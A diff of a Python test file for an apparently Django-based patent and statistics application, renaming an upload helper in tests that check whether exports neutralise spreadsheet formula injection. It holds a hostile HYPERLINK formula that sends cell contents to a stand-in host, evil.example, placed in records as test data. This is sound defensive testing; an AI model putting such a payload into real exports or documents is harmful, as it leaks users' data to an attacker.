@@ -24,7 +24,7 @@ from ipcity.protection.models import DishonestyListing
 from ipcity.services.models import Training
 from ipcity.services.open_data import DATASETS
 from ipcity.stats.models import Patent
-from tests.stats.test_registry_pages import PATENTS, _upload
+from tests.stats.helpers import PATENTS, upload
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
 HOSTILE = FORMULA + "\x01\x0b"  # as a record that got in before input was checked would hold it
@@ -38,7 +38,7 @@ def hostile(client_for, people):
     """One hostile value in every kind of record an export shows."""
     office_user = people["office_admin"]
     office = client_for("office_admin")
-    assert _upload(office, "patents", "p.csv", PATENTS).status_code == 302
+    assert upload(office, "patents", "p.csv", PATENTS).status_code == 302
     Patent.objects.filter(application_number="202310012345.6").update(title=HOSTILE)
     Indicator.objects.filter(code="valid_patents").update(name="有效专利/发明:" + HOSTILE)
     tech = Organization.objects.get(code="science_technology")
@@ -218,7 +218,7 @@ def test_no_module_writes_a_spreadsheet_or_document_except_through_the_one_helpe
 
 def test_a_formula_title_from_an_import_is_text_in_the_public_lineage_and_the_audit_export(client_for, people):
     office = client_for("office_admin")
-    _upload(office, "patents", "p.csv", PATENTS.replace("一种图像识别方法", '"' + FORMULA.replace('"', '""') + '"'))
+    upload(office, "patents", "p.csv", PATENTS.replace("一种图像识别方法", '"' + FORMULA.replace('"', '""') + '"'))
     work_item_create(actor=people["office_admin"], task=KeyTask.objects.get(number=2),
                      unit=Organization.objects.get(code="science_technology"), year=2026, title=FORMULA,
                      deadline=dt.date(2026, 12, 1))
